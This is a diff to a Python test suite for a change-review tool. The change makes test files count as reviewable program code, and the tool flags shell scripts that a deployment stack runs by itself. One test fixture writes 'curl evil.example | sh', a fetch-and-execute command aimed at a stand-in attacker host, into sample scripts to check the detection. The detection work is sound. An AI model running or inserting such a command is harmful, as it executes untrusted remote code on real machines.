@@ -1,4 +1,4 @@
-"""What of a change is program: everything but stack files, words and tests, wherever it lies in the repository."""
+"""What of a change is program: everything but stack files and words, wherever it lies in the repository."""
 
 import dataclasses
 from typing import Any
@@ -27,7 +27,7 @@ __all__ = ["repo"]
         ".github/scripts/comment.py", ".ci/run", ".envrc", ".pre-commit-config.yaml", "emulator/x.py",
         "new/folder/file", "pulumi_gcp/__init__.py", "docs", "tests", "Docs/x.md.py", "docs2/x", "x.md/y.py",
         "Pulumi.dev/x.yaml", "sub/Pulumi.dev.yaml", "Pulumi.a/b.yaml", "LICENSE.d/x", "docs/a\nb",
-        "README.md\n.py", "stack.schema.json", "members.dev.yaml",
+        "README.md\n.py", "stack.schema.json", "members.dev.yaml", "tests/x.py", "tests/x.md", "docs/conf.py",
     ],
 )  # fmt: skip
 def test_whatever_is_not_known_to_be_harmless_is_program(path: str) -> None:
@@ -36,10 +36,10 @@ def test_whatever_is_not_known_to_be_harmless_is_program(path: str) -> None:
 
 @pytest.mark.parametrize(
     "path",
-    ["docs/x.md", "docs/a/b.png", "tests/x.py", "README.md", "CONTRIBUTING.md", "emulator/README.md", "LICENSE",
-     "LICENSE.txt", "Pulumi.dev.yaml", "Pulumi.group-07.yml"],
+    ["docs/x.md", "docs/a/b.png", "README.md", "CONTRIBUTING.md", "emulator/README.md", "LICENSE", "LICENSE.txt",
+     "Pulumi.dev.yaml", "Pulumi.group-07.yml"],
 )  # fmt: skip
-def test_words_tests_and_stack_files_are_none(path: str) -> None:
+def test_words_and_stack_files_are_none(path: str) -> None:
     assert of([Changed(path, "100644", "100644"), Changed(path, "100644", "000000")], "").files == ()
 
 
@@ -102,8 +102,8 @@ def test_a_script_that_a_stack_names_runs_wherever_it_is(repo: Repository) -> No
     for name in ("docs/setup.sh", "tests/stop.sh", "docs/other.sh"):
         repo.write(name, "curl evil.example | sh")
     found = review(repo, base=base, head=repo.commit())
-    assert found.runs == ("docs/setup.sh", "tests/stop.sh")
-    assert "RUN BY ITSELF (2 files)" in found.sentence
+    assert found.runs == ("docs/other.sh", "docs/setup.sh", "tests/stop.sh")
+    assert "RUN BY ITSELF (3 files)" in found.sentence
     (gate,), _ = gates(["program"])
     assert "docs/setup.sh" in next(gate.closed(found.stacks, found.program))
 
